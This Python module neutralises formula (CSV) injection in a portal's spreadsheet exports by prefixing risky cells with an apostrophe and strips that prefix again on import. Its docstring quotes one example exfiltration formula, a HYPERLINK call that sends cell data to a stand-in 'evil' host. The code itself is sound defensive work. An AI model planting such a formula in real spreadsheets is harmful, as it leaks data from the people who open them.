"""Cells of the spreadsheets the portal writes (CSV and XLSX), made inert, and read back.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (or a tab or carriage
return before one) as a formula: a source or a note written `=HYPERLINK("http://evil/?d="&A2)`
would, once approved, become a live formula in every download of it; openpyxl itself stores a
string starting with "=" as a formula. OWASP's rule ("CSV injection"): such a text cell gets a
leading apostrophe, which spreadsheets show as text. Numbers stay numbers: a number object
is never touched, nor a text that is just a number ("-5", "-12.5"), which is not a formula.

Every export calls inert() on what it writes (or inert_frame() on a pandas table); every
import of a file the portal may have written calls restored() on what it reads, so that an
export imports back unchanged.
"""

import re

import pandas as pd

# A tab or carriage return first hides the formula from a glance, not from the spreadsheet.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\d*[.,]\d+)([eE][+-]?\d+)?%?")


def _runs(text: str) -> bool:
    """Whether a spreadsheet would run `text`, or would once the apostrophes in front of it
    are read away (so that a stored "'=x" comes back as "'=x", not as "=x")."""
    text = text.lstrip("'")
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def inert(value):
    """`value`, or a text that a spreadsheet would run as a formula with an apostrophe in
    front of it. Numbers, dates, None and texts that are plain numbers are left as they are."""
    if isinstance(value, str) and _runs(value):
        return "'" + value
    return value


def inert_row(values) -> list:
    return [inert(value) for value in values]


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with its text cells inert; numeric and date columns untouched."""
    frame = frame.copy()
    for column in frame.columns:
        if not (
            pd.api.types.is_numeric_dtype(frame[column])
            or pd.api.types.is_datetime64_any_dtype(frame[column])
        ):
            frame[column] = frame[column].map(inert)
    return frame


def restored(text: str) -> str:
    """What an inert cell held before inert() added its apostrophe; any other text unchanged.

    Only an apostrophe in front of what a spreadsheet would run is removed: the portal's own
    exports add no other."""
    if text[:1] == "'" and _runs(text[1:]):
        return text[1:]
    return text
